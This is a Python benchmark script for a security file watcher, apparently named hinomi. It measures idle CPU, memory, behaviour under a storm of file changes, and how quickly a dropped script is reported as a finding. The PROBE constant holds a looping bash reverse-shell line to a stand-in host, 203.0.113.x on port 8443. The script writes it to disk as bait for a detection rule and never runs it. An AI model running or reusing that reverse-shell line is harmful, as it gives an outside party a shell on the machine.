"""The watcher under a storm, at rest, and how soon a change is a finding; inotifywait beside it where it is installed.

    python -m benchmarks watch
    python benchmarks/watch.py [--changes 100000] [--idle 30] [--entries 0] [--dir /dev/shm]

The folder is one of its own, on a tmpfs where the machine has one. Figures are the kernel's for the watcher with all
its processes: CPU seconds, and memory as the sum of their proportional shares (PSS).
"""

from __future__ import annotations

import argparse
import json
import multiprocessing
import os
import shutil
import signal
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Sequence
from pathlib import Path

MAIN = "from hinomi.cli.main import main; main()"
WRITERS = 8
PROBES = 10
TICK = os.sysconf("SC_CLK_TCK")
PROBE = "#!/bin/sh\nwhile :; do bash -i >& /dev/tcp/203.0.113.{n}/8443 0>&1; sleep 60; done\n"


def main(arguments: Sequence[str] = ()) -> int:
    options = _options(arguments)
    if os.geteuid() != 0:
        print("needs root: fanotify and the process connector")
        return 0
    base = Path(tempfile.mkdtemp(prefix="hinomi-bench-watch-"))
    place = Path(tempfile.mkdtemp(prefix="hinomi-bench-watch-", dir=options.dir))
    try:
        _fill(place / "there", options.entries)
        _ours(place, base, options)
        if shutil.which("inotifywait"):
            _inotifywait(place, options)
        else:
            print("inotifywait is not installed (Debian package inotify-tools): no peer to compare with")
    finally:
        shutil.rmtree(place, ignore_errors=True)
        shutil.rmtree(base, ignore_errors=True)
    return 0


def _options(arguments: Sequence[str]) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--changes", type=int, default=100_000)
    parser.add_argument("--entries", type=int, default=0, help="files there before (400000: memory bar)")
    parser.add_argument("--idle", type=float, default=20.0)
    parser.add_argument("--no-processes", action="store_true", help="files only: on a machine that others use")
    parser.add_argument("--dir", default="/dev/shm" if os.path.ismount("/dev/shm") else None)
    return parser.parse_args(arguments)


def _fill(folder: Path, number: int) -> None:
    for n in range(number):
        if n % 1000 == 0:
            (folder / str(n // 1000)).mkdir(parents=True)
        (folder / str(n // 1000) / str(n)).write_bytes(b"x")


def _storm(folder: Path, number: int) -> None:
    for n in range(number):
        if n % 500 == 0:
            sub = folder / str(n // 500)
            sub.mkdir(parents=True)
        path = sub / f"f{n}"
        path.write_text(f"{folder} {n}")
        if n % 7 == 0:
            path.rename(sub / f"r{n}")
        elif n % 11 == 0:
            path.unlink()


def _run_storm(place: Path, changes: int) -> float:
    begin = time.monotonic()
    context = multiprocessing.get_context("fork")
    makers = [context.Process(target=_storm, args=(place / f"storm{n}", changes // WRITERS)) for n in range(WRITERS)]
    for maker in makers:
        maker.start()
    for maker in makers:
        maker.join()
    return time.monotonic() - begin


def _ours(place: Path, base: Path, options: argparse.Namespace) -> None:
    out, err = base / "out.jsonl", base / "err"
    command = [sys.executable, "-c", MAIN, "watch", str(place), "--case", str(base / "case"), "--format", "jsonl",
               "--lang", "en"]  # fmt: skip
    command += ["--no-processes"] if options.no_processes else []
    with out.open("wb") as stdout, err.open("wb") as stderr:
        process = subprocess.Popen(command, stdout=stdout, stderr=stderr)
    try:
        _until(lambda: "Watching" in err.read_text(), process)
        time.sleep(3)
        before = _cpu(process.pid)
        time.sleep(options.idle)
        idle = (_cpu(process.pid) - before) / options.idle
        print(f"at rest: {100 * idle:.2f} % of a core (bar 1 %), {_memory(process.pid):.0f} MiB (bar 200 MiB),"
              f" {options.entries:,} entries there"
              f"{'' if options.no_processes else ', all processes of this machine followed'}")  # fmt: skip
        _latency(place, out, process)
        before = _cpu(process.pid)
        took = _run_storm(place, options.changes)
        begin = time.monotonic()
        wanted = _tree(place)
        _until(lambda: _told(out) >= wanted, process, 900)
        later = time.monotonic() - begin
        print(f"storm: {options.changes:,} files by {WRITERS} processes in {took:.1f} s; all told {later:.1f} s later;"
              f" watcher CPU {_cpu(process.pid) - before:.1f} s; {_memory(process.pid):.0f} MiB after")  # fmt: skip
        gaps = [line for line in out.read_text().splitlines() if '"hinomi.gap/1"' in line]
        print(f"gaps stated: {len(gaps)}")
    finally:
        process.send_signal(signal.SIGINT)
        process.wait()


def _latency(place: Path, out: Path, process: subprocess.Popen) -> None:
    """Drop a script with a behaviour that a rule knows, and wait until it is told as a finding."""
    took = []
    for n in range(PROBES):
        path = place / f"probe{n}"
        begin = time.monotonic()
        path.write_text(PROBE.format(n=n + 1))
        _until(lambda path=path: any('"hinomi.finding/1"' in x and f'{path}"' in x for x in _lines(out)), process)
        took.append(time.monotonic() - begin)
        time.sleep(0.5)
    took.sort()
    print(f"change to finding: p50 {statistics.median(took):.2f} s, p99 {took[-1]:.2f} s of {PROBES} (bar 1 s)")


def _inotifywait(place: Path, options: argparse.Namespace) -> None:
    for old in place.glob("storm*"):
        shutil.rmtree(old)
    process = subprocess.Popen(
        ["inotifywait", "-m", "-r", "-q", str(place)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    time.sleep(2)
    took = _run_storm(place, options.changes)
    time.sleep(3)
    print(f"inotifywait -m -r: storm in {took:.1f} s, CPU {_cpu(process.pid):.1f} s: names only; no content, no digest,"
          " no who, new folders' first files unheard")  # fmt: skip
    process.terminate()
    process.wait()


def _lines(out: Path) -> list[str]:
    return out.read_text().splitlines()


def _tree(place: Path) -> set[str]:
    return {os.path.join(top, name) for top, _, names in os.walk(place) for name in names if "/storm" in top}


def _told(out: Path) -> set[str]:
    told: set[str] = set()
    for line in out.read_text().splitlines(keepends=True):
        if line.endswith("\n") and line.startswith('{"schema": "hinomi.change/1"'):
            change = json.loads(line)
            path = change["path"]
            told.add(path) if change["what"] in ("added", "changed") else told.discard(path)
    return told


def _until(holds, process: subprocess.Popen, seconds: float = 180.0) -> None:
    end = time.monotonic() + seconds
    while not holds():
        if process.poll() is not None or time.monotonic() > end:
            raise SystemExit("the watcher ended or did not answer")
        time.sleep(0.02 if seconds < 200 else 1.0)


def _family(pid: int) -> list[int]:
    try:
        children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    except OSError:
        return [pid]
    return [pid, *(one for child in children for one in _family(int(child)))]


def _cpu(pid: int) -> float:
    """Return CPU seconds of a process and all its children, ended ones included."""
    total = 0
    for one in _family(pid):
        try:
            fields = Path(f"/proc/{one}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            continue
        total += sum(int(field) for field in fields[11:15])
    return total / TICK


def _memory(pid: int) -> float:
    """Return MiB of proportional shares."""
    total = 0
    for one in _family(pid):
        try:
            text = Path(f"/proc/{one}/smaps_rollup").read_text()
        except OSError:
            continue
        total += sum(int(line.split()[1]) for line in text.splitlines() if line.startswith("Pss:"))
    return total / 1024


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
